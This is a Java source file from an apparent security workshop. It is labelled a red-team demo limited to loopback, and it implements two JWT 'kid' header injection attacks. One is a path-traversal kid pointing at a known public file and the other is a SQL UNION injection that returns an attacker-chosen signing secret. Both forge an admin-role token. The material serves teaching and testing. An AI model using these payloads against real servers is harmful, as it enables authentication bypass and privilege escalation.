package workshop.attacks;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Map;

/** Red team: a {@code kid} that makes the server load a key the attacker knows (ATTACK DEMO, loopback only). */
public final class KidInjection {

    private KidInjection() {
    }

    /**
     * A8 · the server reads the HMAC key from the file {@code <root>/keys/<kid>}, path unchecked. The file served at
     * {@code knownFile} (loopback only, else NotLoopback) is {@code <root>/public/welcome.txt}. Returns alice's
     * claims with {@code role: admin}, HS256-signed with that file's bytes, with a {@code kid} that leads there.
     */
    public static String traversal(String token, URI knownFile) {
        Http.Answer file = Http.get(Loopback.require(knownFile), null);
        if (file.status() != 200) {
            throw new IllegalStateException("the known file is not at " + knownFile + " (" + file.status() + ")");
        }
        return Forgery.signedAdmin(token, Map.of("kid", "../public/welcome.txt"), file.body().getBytes(StandardCharsets.UTF_8));
    }

    /**
     * A8 · the server runs {@code SELECT secret FROM signing_keys WHERE kid = '<kid>'}, pasted together. Returns
     * alice's claims with {@code role: admin}, HS256-signed with a secret of your choice that the injected
     * {@code kid} makes the query return.
     */
    public static String sql(String token) {
        String secret = "chosen-by-the-attacker";
        // No row has kid 'none'; the UNION adds one whose secret is ours; "--" comments out the closing quote.
        String kid = "none' UNION SELECT '" + secret + "' --";
        return Forgery.signedAdmin(token, Map.of("kid", kid), secret.getBytes(StandardCharsets.UTF_8));
    }
}
